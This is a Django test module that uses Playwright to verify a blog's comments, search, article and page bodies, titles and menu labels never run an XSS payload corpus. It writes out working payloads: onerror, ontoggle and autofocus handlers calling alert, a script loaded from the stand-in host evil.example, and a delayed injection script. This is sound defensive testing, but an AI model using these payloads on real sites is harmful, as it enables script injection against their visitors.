"""A corpus of hostile input (tests/data/xss_payloads.txt) sent through every comment field, the search box, the
article body, a page's body and title and the menus' texts: in a real browser, nothing runs, nothing is injected,
nothing is loaded from elsewhere."""

from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from blog.models import Article, Comment, DiscussionSettings
from menus.models import Menu, MenuItem
from pages.models import Page
from tests.factories import ArticleFactory, post_comment
from tests.helpers import article_form

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = (Path(__file__).parent.parent / "data" / "xss_payloads.txt").read_text().splitlines()


class Watch:
    """What a page did that it must not: dialogs, injected elements, requests to other hosts."""

    def __init__(self, page, live_server):
        self.page, self.site = page, urlsplit(live_server.url).netloc
        self.dialogs, self.foreign = [], []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", self.request)

    def request(self, request):
        if urlsplit(request.url).netloc not in (self.site, "") and not request.url.startswith(("data:", "blob:")):
            self.foreign.append(request.url)

    def visit(self, url):
        response = self.page.goto(url, wait_until="load")
        assert response.status < 500, url
        # Then one frame and one task more: autofocus, animations and whatever the load event queued run by then.
        self.page.evaluate("() => new Promise(settled => requestAnimationFrame(() => setTimeout(settled)))")
        return self.page.locator("[data-xss]").count()


# Payloads of the corpus: three calling alert(1) (on an image error, on opening a <details>, on autofocus at the
# first frame) and one loading a script from elsewhere; then one of this test's own, which runs only a frame and a
# task after the load event and adds an element.
RUNNING = [
    "<img src=x onerror=alert(1) data-xss>",
    "<details open ontoggle=alert(1) data-xss>",
    "<input autofocus onfocus=alert(1) data-xss>",
    "<script src=//evil.example/x.js data-xss></script>",
]
LATE = """<script>onload = () => requestAnimationFrame(() => setTimeout(() => {
  alert("after the load event");
  document.body.insertAdjacentHTML("beforeend", "<b data-xss>late</b>");
}))</script>"""


def test_the_watch_sees_payloads_run_where_nothing_stops_them(new_context, live_server):
    """The same watch on a page of this test's own, served without the site's escaping or headers: it sees them run."""
    assert all(payload in PAYLOADS for payload in RUNNING)
    page = new_context().new_page()
    unprotected = f"{live_server.url}/hostile-payloads-allowed-to-run/"
    html = "<!doctype html><title>Unprotected</title>" + "".join(RUNNING) + LATE
    page.route(unprotected, lambda route: route.fulfill(content_type="text/html", body=html))
    page.route("http://evil.example/**", lambda route: route.abort())
    watch = Watch(page, live_server)

    assert watch.visit(unprotected) == len(RUNNING) + 1
    assert sorted(watch.dialogs) == ["1", "1", "1", "after the load event"]
    assert watch.foreign == ["http://evil.example/x.js"]


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_hostile_comments_search_and_article_body_never_run(new_context, live_server, editor):
    DiscussionSettings.objects.update_or_create(pk=1, defaults={"comments_per_page": 500})
    article = ArticleFactory(title="Target article", slug="target-article")
    visitor = Client()
    for number, payload in enumerate(PAYLOADS):
        post_comment(visitor, article, name=payload[:200] or "x", body=f"{payload} (#{number})")
        for field in ("url", "email"):
            response = post_comment(visitor, article, **{field: payload}, body=f"{field} {number}")
            assert response.status_code in (302, 400)
    Comment.objects.update(status=Comment.Status.APPROVED)
    assert Comment.objects.count() >= len(PAYLOADS)

    author = Client()
    author.force_login(editor)
    hostile_body = "<p>Intro</p>" + "".join(f"<p>{payload}</p>" for payload in PAYLOADS)
    response = author.post(
        reverse("admin:blog_article_add"), article_form(editor, slug="hostile-body", body=hostile_body)
    )
    assert response.status_code == 302
    body_article = Article.objects.get(slug="hostile-body")

    page = new_context().new_page()
    watch = Watch(page, live_server)
    assert watch.visit(live_server.url + article.get_absolute_url()) == 0
    assert page.locator(".comment").count() >= len(PAYLOADS)
    assert watch.visit(live_server.url + body_article.get_absolute_url()) == 0
    for payload in PAYLOADS:
        injected = watch.visit(f"{live_server.url}{reverse('blog:search')}?q={quote(payload)}")
        assert injected == 0, payload
    assert watch.dialogs == []
    assert watch.foreign == []


def test_hostile_page_bodies_titles_and_menu_texts_never_run(new_context, live_server, editor):
    author = Client()
    author.force_login(editor)
    hostile_body = "<p>Intro</p>" + "".join(f"<p>{payload}</p>" for payload in PAYLOADS)
    response = author.post(
        reverse("admin:pages_page_add"),
        {
            "title": PAYLOADS[0][:200],
            "slug": "hostile-page",
            "parent": "",
            "order": "0",
            "body": hostile_body,
            "template": Page.Template.PLAIN,
            "status": Page.Status.PUBLISHED,
            "published_at_0": "",
            "published_at_1": "",
        },
    )
    assert response.status_code == 302
    page_object = Page.objects.get(slug="hostile-page")
    header = Menu.at(Menu.Location.HEADER)
    for number, payload in enumerate(PAYLOADS):
        MenuItem.objects.create(
            menu=header, order=number, kind=MenuItem.Kind.PAGE, page=page_object, label=payload[:100] or "x"
        )

    page = new_context().new_page()
    watch = Watch(page, live_server)
    assert watch.visit(live_server.url + page_object.get_absolute_url()) == 0
    assert page.get_by_role("navigation", name="Main").locator("a").count() >= len(PAYLOADS)
    assert watch.dialogs == []
    assert watch.foreign == []
